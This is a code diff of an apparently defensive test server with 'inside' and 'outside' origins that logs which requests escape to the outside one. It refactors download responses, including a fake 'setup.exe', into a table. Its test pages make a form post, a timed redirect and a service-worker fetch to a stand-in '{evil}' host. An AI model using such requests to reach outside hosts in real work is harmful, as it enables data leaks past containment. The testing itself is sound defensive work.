@@ -28,6 +28,18 @@ try {{
 <form method=post action='{evil}/by-form'><input name=q value=1><button id=send>send</button></form>
 <button id=later onclick="setTimeout(() => location = '{evil}/by-timer', 100)">later</button>"""
 
+_FILES = {
+    "/large": ({"Content-Type": "application/octet-stream"}, b"x" * 3_000_000),
+    "/report": (
+        {"Content-Type": "text/html", "Content-Disposition": 'attachment; filename="report.html"'},
+        b"<!doctype html><p>Report",
+    ),
+    "/program": (
+        {"Content-Type": "application/octet-stream", "Content-Disposition": 'attachment; filename="setup.exe"'},
+        b"MZ.....",
+    ),
+}
+
 
 class TwoSites:
     """`inside` and `outside` are their origins; `reached` lists what the outside one was asked for."""
@@ -45,11 +57,9 @@ class TwoSites:
             return 302, {"Location": f"{self.outside}/by{path}"}, b""
         if path in self.pages:
             return 200, {"Content-Type": "text/html; charset=utf-8"}, self.pages[path].encode()
-        if path == "/large":
-            return 200, {"Content-Type": "application/octet-stream"}, b"x" * 3_000_000
-        if path == "/program":
-            name = 'attachment; filename="setup.exe"'
-            return 200, {"Content-Type": "application/octet-stream", "Content-Disposition": name}, b"MZ....."
+        if path in _FILES:
+            headers, content = _FILES[path]
+            return 200, headers, content
         if path == "/worker.js":
             script = f"fetch('{self.outside}/by-service-worker', {{mode: 'no-cors'}})"
             return 200, {"Content-Type": "text/javascript"}, script.encode()
